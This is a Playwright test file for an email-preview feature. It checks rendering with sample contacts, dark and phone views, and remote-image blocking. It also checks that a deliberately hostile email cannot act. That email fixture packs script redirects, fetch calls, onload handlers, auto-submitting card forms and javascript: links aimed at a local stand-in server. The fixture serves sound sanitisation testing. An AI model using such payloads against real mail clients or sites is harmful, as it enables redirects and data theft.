// The email as a mailbox would show it: with whose data, on what, in which colours; and what it cannot do.

import type { Page } from "@playwright/test";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { audit, expect, shots, test } from "../fixtures/index.ts";
import { addAfter, fillTemplate, openWorkflow, turnTo, tutorialNode } from "../fixtures/journey.ts";

const frame = "iframe.mail-document:not(.is-coming)";

/** A server that an email should not reach. */
class Elsewhere {
  private constructor(private readonly server: Server, readonly requests: string[], private readonly opened: string[]) {}

  static async start(): Promise<Elsewhere> {
    const requests: string[] = [];
    const opened: string[] = [];
    const pixel = Buffer.from("R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==", "base64");
    const server = createServer((request, response) => {
      requests.push(`${request.method} ${request.url} ${request.headers.cookie ?? ""}${request.headers.referer ?? ""}`.trim());
      response.writeHead(200, { "Content-Type": "image/gif", "Access-Control-Allow-Origin": "*" }).end(pixel);
    });
    server.on("connection", () => opened.push("connection"));
    await new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));
    return new Elsewhere(server, requests, opened);
  }

  get url(): string {
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  get connections(): number {
    return this.opened.length;
  }

  stop(): Promise<void> {
    this.server.closeAllConnections();
    return new Promise((stopped) => this.server.close(() => stopped()));
  }
}

/** Opens a new email node with the tutorial's template, and its preview. */
async function openEmail(page: Page, names = Object.keys(tutorialNode.variables)): Promise<void> {
  await openWorkflow(page, "wf_12345");
  await addAfter(page, "start_node");
  const wanted = Object.entries(tutorialNode.variables).filter(([name]) => names.includes(name));
  await fillTemplate(page, tutorialNode.template, Object.fromEntries(wanted));
  await page.getByRole("tab", { name: "Email" }).click();
  await turnTo(page, "Preview");
  await expect(page.locator(frame)).toBeVisible();
}

/** Puts another template in the place of the tutorial's. */
async function withTemplate(page: Page, template: { subject?: string; preheader?: string; html: string; text?: string }): Promise<void> {
  const whole = { id: tutorialNode.template, name: "Another", subject: "Hello, {{customerName}}", preheader: "", text: "", ...template };
  await page.route(`**/api/templates/${tutorialNode.template}`, (route) => route.fulfill({ json: whole }));
}

/** The HTML that the frame shows. */
async function shown(page: Page): Promise<string> {
  const source = await page.locator(frame).getAttribute("src");
  return (await page.request.get(source ?? "")).text();
}

const contact = (page: Page) => page.getByRole("combobox", { name: "Sample contact" });

test("an email with the data of several contacts", async ({ page }) => {
  await openEmail(page);
  const subject = page.locator(".envelope-subject");
  await expect(subject).toHaveText("Your invoice INV-2024-0117");
  await expect.poll(() => shown(page)).toContain("Thank you for your order, Ada");
  await audit(page, "email preview");
  await shots(page, "email-preview");

  await contact(page).selectOption("Empty values");
  await expect(page.getByText("Empty with this contact:")).toContainText("invoiceNumber, customerName, orderTotal");
  await expect.poll(() => shown(page)).toContain("<mark");
  await shots(page, "email-preview-empty");

  await contact(page).selectOption("Very long values");
  await expect.poll(() => shown(page)).toContain("AdaAdaAdaAda");
  await shots(page, "email-preview-long");

  await contact(page).selectOption("Right-to-left");
  await expect.poll(() => shown(page)).toContain("ليلى");
  await shots(page, "email-preview-rtl");

  await contact(page).selectOption("Hostile markup");
  await expect(subject).toContainText("<script>top.location=");
  await expect.poll(() => shown(page)).toContain("&lt;script&gt;top.location=");
  expect(await shown(page)).not.toMatch(/<script|<svg|<img src=https:\/\/hostile/);
  await audit(page, "email preview, hostile values");
  await shots(page, "email-preview-hostile");
});

test("what is not set stands out in the email and is listed", async ({ page }) => {
  await openWorkflow(page, "wf_12345");
  await addAfter(page, "start_node");
  await fillTemplate(page, tutorialNode.template, { orderTotal: tutorialNode.variables.orderTotal });
  await turnTo(page, "Preview");
  await expect(page.getByText("Not set:")).toContainText("invoiceNumber, customerName");
  await expect(page.locator(".envelope-subject mark")).toHaveText("{{invoiceNumber}}");
  await expect.poll(() => shown(page)).toMatch(/<mark style="[^"]*">\{\{customerName\}\}<\/mark>/);
  await page.getByRole("button", { name: "Plain text" }).click();
  await expect(page.getByRole("region", { name: "The email as plain text" }).locator("mark").first()).toHaveText("{{customerName}}");
  await shots(page, "email-preview-missing");
});

test("a contact of one's own is kept in this browser and goes nowhere else", async ({ page }) => {
  await openEmail(page);
  await page.getByRole("button", { name: "Your own contacts" }).click();
  const dialog = page.getByRole("dialog", { name: "Sample contacts of your own" });
  await expect(dialog.getByRole("textbox", { name: "Name", exact: true })).toBeFocused();
  await page.keyboard.press("Enter");
  await expect(dialog.getByRole("textbox", { name: "Name", exact: true })).toHaveAccessibleDescription(/Give the contact a name/);
  await page.keyboard.type("Zoë from Ghent");
  await dialog.getByRole("textbox", { name: tutorialNode.variables.customerName }).fill("Zoë <b>Peeters</b>");
  await audit(page, "own contact");
  await shots(page, "email-preview-own");
  await dialog.getByRole("button", { name: "Keep and use" }).click();
  await expect(dialog).toBeHidden();
  await expect(page.getByRole("button", { name: "Your own contacts" })).toBeFocused();
  await expect(contact(page)).toHaveValue(/own-/);
  await expect.poll(() => shown(page)).toContain("Zoë &lt;b&gt;Peeters&lt;/b&gt;");

  page.on("dialog", (question) => void question.accept());
  const kept = await page.evaluate(() => JSON.stringify({ ...localStorage }));
  expect(kept.match(/Peeters/g)).toHaveLength(1);
  await page.reload();
  await page.getByRole("treegrid", { name: "Nodes of the workflow" }).getByText("email_send_01").click();
  await contact(page).selectOption("Zoë from Ghent");
  await expect.poll(() => shown(page)).toContain("Zoë &lt;b&gt;");
  await page.getByRole("button", { name: "Your own contacts" }).click();
  await dialog.getByRole("button", { name: "Delete" }).click();
  await page.keyboard.press("Escape");
  await expect(contact(page)).toHaveValue("ordinary");
});

test("desktop, phone, dark, inverted, plain text", async ({ page }) => {
  await withTemplate(page, {
    html: `<!doctype html><html><head><style>body{background:#fff;color:#111}@media (prefers-color-scheme: dark){body{background:#101418;color:#eef}}</style></head><body><p>Hello, {{customerName}}</p><p><a href="https://shop.example/a">Your order</a></p></body></html>`,
    text: "Hello, {{customerName}}",
  });
  await openEmail(page, ["customerName"]);
  await page.getByRole("button", { name: "Phone" }).click();
  expect((await page.locator(frame).boundingBox())?.width).toBeLessThanOrEqual(390);
  await shots(page, "email-preview-phone");
  await page.getByRole("button", { name: "Dark", exact: true }).click();
  await expect(page.getByText(/use the email's own dark style/)).toBeVisible();
  await shots(page, "email-preview-dark");
  await audit(page, "email preview, dark");
  await page.getByRole("button", { name: "Inverted" }).click();
  await expect(page.getByText(/An approximation/)).toBeVisible();
  await expect.poll(() => shown(page)).toContain("filter:invert(1)");
  await shots(page, "email-preview-inverted");
  await page.getByRole("button", { name: "Plain text" }).click();
  await expect(page.getByRole("region", { name: "The email as plain text" })).toHaveText("Hello, Ada");
  await audit(page, "email preview, plain text");
  // How one looks at emails stays when one looks at something else meanwhile.
  await page.getByRole("tab", { name: "JSON" }).click();
  await page.getByRole("tab", { name: "Email" }).click();
  await expect(page.getByRole("button", { name: "Plain text" })).toHaveAttribute("aria-pressed", "true");
});

test("the preheader is taken as mail programs take it", async ({ page }) => {
  const html = (hidden: string) => `<html><head><title>T</title><style>p{}</style></head><body>${hidden}<p>Dear {{customerName}}</p></body></html>`;
  const preheader = page.locator(".envelope dd").last();
  await withTemplate(page, { html: html(`<div style="display:none; max-height: 0">Hidden line &nbsp;&zwnj;&#847;</div>`) });
  await openEmail(page, ["customerName"]);
  await expect(preheader).toHaveText("Hidden line Dear Ada · hidden text at the top of the body");
  await withTemplate(page, { html: html("") });
  await page.reload();
  await page.getByRole("treegrid", { name: "Nodes of the workflow" }).getByText("email_send_01").click();
  await expect(preheader).toHaveText("Dear Ada · first words of the body");
});

test("remote pictures are loaded on a click only, for this template, without a word about where from", async ({ page, guard, stack }) => {
  const elsewhere = await Elsewhere.start();
  try {
    // The policy refuses them first; then they are asked for.
    guard.expect(/img-src|Content Security Policy/, new RegExp(`request to ${elsewhere.url}`));
    await page.context().addCookies([{ name: "secret", value: "1", domain: "127.0.0.1", path: "/" }]);
    await withTemplate(page, {
      html: `<body background="${elsewhere.url}/table.gif"><img src="${elsewhere.url}/one.gif" alt="One"><img srcset="${elsewhere.url}/two.gif 1x"><p style="background-image:url('${elsewhere.url}/three.gif')">x</p><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><img src="cid:logo" alt="Logo"></body>`,
    });
    await openEmail(page, ["customerName"]);
    await expect(page.locator(".preview-pictures")).toContainText("4 remote pictures not loaded.");
    expect(elsewhere.requests).toEqual([]);
    await audit(page, "email preview, pictures");
    await shots(page, "email-preview-pictures");
    await page.getByRole("button", { name: "Load pictures" }).press("Enter");
    await expect.poll(() => new Set(elsewhere.requests).size).toBe(4);
    // Neither cookies nor the preview's own address went along.
    expect(elsewhere.requests.filter((request) => request.includes("secret") || request.includes(stack.url))).toEqual([]);
    const before = elsewhere.requests.length;
    await contact(page).selectOption("Empty values");
    await expect(page.locator(".preview-pictures")).toContainText("4 remote pictures loaded for this template");
    await page.getByRole("button", { name: "Block them again" }).click();
    await expect(page.locator(".preview-pictures")).toContainText("4 remote pictures not loaded.");
    expect(elsewhere.requests.length).toBeLessThanOrEqual(before + 4);
  } finally {
    await elsewhere.stop();
  }
});

const hostile = (url: string) => `<!doctype html><html><head>
  <base href="${url}/base/"><meta http-equiv="refresh" content="0;url=${url}/refresh">
  <script src="${url}/script.js"></script><script>window.top.location = "${url}/top"; fetch("${url}/fetch"); new Image().src = "${url}/image"</script>
  <style>@import url("${url}/import.css"); @font-face { font-family: f; src: url("${url}/font.woff") } p { font-family: f }</style>
  </head><body onload="location='${url}/onload'">
  <iframe src="${url}/frame"></iframe><iframe srcdoc="<script>parent.location='${url}/srcdoc'</script>"></iframe>
  <object data="${url}/object"></object><embed src="${url}/embed"><video src="${url}/video" autoplay></video>
  <svg onload="location='${url}/svg'"><image href="${url}/svg-image"/><a href="${url}/svg-link"><text y="20">svg</text></a></svg>
  <form id="f" action="${url}/form" method="post"><input name="card" autofocus onfocus="this.form.submit()"><button>Pay</button><button formaction="${url}/formaction">Pay twice</button></form>
  <p>Text <a id="top" href="${url}/link" target="_top" ping="${url}/ping">to the top</a> <a id="blank" href="${url}/blank" target="_blank">to a new page</a> <a id="plain" href="${url}/plain">here</a> <a id="js" href="javascript:location='${url}/js'">script</a> <a href="mailto:a@shop.example">mail</a></p>
  </body></html>`;

test("a hostile email runs nothing, sends nothing and leads nowhere, and says where it would", async ({ page, stack, guard }) => {
  const elsewhere = await Elsewhere.start();
  try {
    // The browser tells what it refuses, and lists it as requests; whether any left is for the other side to say.
    guard.expect(/Content Security Policy|Blocked form submission/, new RegExp(`request to ${elsewhere.url}`));
    // Wide enough for an email at its full size: in a frame that is scaled the test's mouse goes astray.
    await page.setViewportSize({ width: 1720, height: 900 });
    await withTemplate(page, { html: hostile(elsewhere.url).replace("<head>", `<head><link rel="preconnect" href="${elsewhere.url}"><link rel="stylesheet" href="${elsewhere.url}/style.css">`) });
    await openEmail(page, ["customerName"]);
    const html = await shown(page);
    expect(html).not.toMatch(/<script|<base|<iframe|<object|<embed|<link|http-equiv="refresh"| on[a-z]+=|target=|ping=|action=/);
    const before = page.url();
    const email = page.frameLocator(frame);
    for (const id of ["#top", "#blank", "#plain", "#js"]) {
      await email.locator(id).click();
      await email.locator(id).press("Enter");
    }
    for (const button of await email.locator("button").all()) await button.click();
    await email.locator("input").press("Enter");
    await expect(email.locator("#plain")).toHaveAttribute("title", `${elsewhere.url}/plain`);
    expect(page.context().pages()).toHaveLength(1);
    expect(page.url()).toBe(before);
    for (const inside of page.frames().slice(1)) expect(inside.url()).toMatch(new RegExp(`^${stack.url}/api/preview/`));
    const ways = page.locator("details.ways");
    await ways.locator("summary").press("Enter");
    await expect(ways.getByRole("listitem").filter({ hasText: "to the top" })).toContainText(`${elsewhere.url}/link`);
    await expect(ways.getByRole("listitem").filter({ hasText: "mail" })).toContainText("mailto:a@shop.example");
    await expect(ways).toContainText(`${elsewhere.url}/form`);
    await expect(ways).toContainText("javascript:location=");
    await audit(page, "email preview, hostile email");
    await shots(page, "email-preview-links");
    expect(elsewhere.requests).toEqual([]);
    expect(elsewhere.connections).toBe(0);
  } finally {
    await elsewhere.stop();
  }
});

test("the frame and the policy hold even for an email that was not made harmless before", async ({ page, guard, stack }) => {
  const elsewhere = await Elsewhere.start();
  try {
    // The browser says what it refuses.
    guard.expect(/Blocked|blocked|Refused|Content Security Policy|violates|sandbox|frame/i, new RegExp(`request to ${elsewhere.url}`));
    await page.goto("/");
    const address = await page.evaluate(async (html) => {
      const answer = await fetch("/api/preview", { method: "POST", headers: { "Content-Type": "text/html", "X-CXone-Configurator": "1" }, body: html });
      return ((await answer.json()) as { url: string }).url;
    }, hostile(elsewhere.url));
    await page.evaluate(
      (source) =>
        new Promise((loaded) => {
          const frame = document.createElement("iframe");
          frame.setAttribute("sandbox", "");
          frame.className = "raw";
          frame.onload = loaded;
          frame.src = source;
          document.body.append(frame);
        }),
      address,
    );
    const email = page.frameLocator("iframe.raw");
    await expect(email.locator("p")).toContainText("Text");
    for (const button of await email.locator("button").all()) await button.dispatchEvent("click");
    for (const id of ["#top", "#blank"]) await email.locator(id).dispatchEvent("click");
    expect(page.url()).toBe(`${stack.url}/`);
    expect(page.context().pages()).toHaveLength(1);

    // Opened by itself it has the policy alone.
    const alone = await page.context().newPage();
    await alone.goto(`${stack.url}${address}`);
    await expect(alone.locator("p")).toContainText("Text");
    await alone.locator("button").first().click();
    expect(alone.url()).toBe(`${stack.url}${address}`);
    expect(elsewhere.requests).toEqual([]);
  } finally {
    await elsewhere.stop();
  }
});
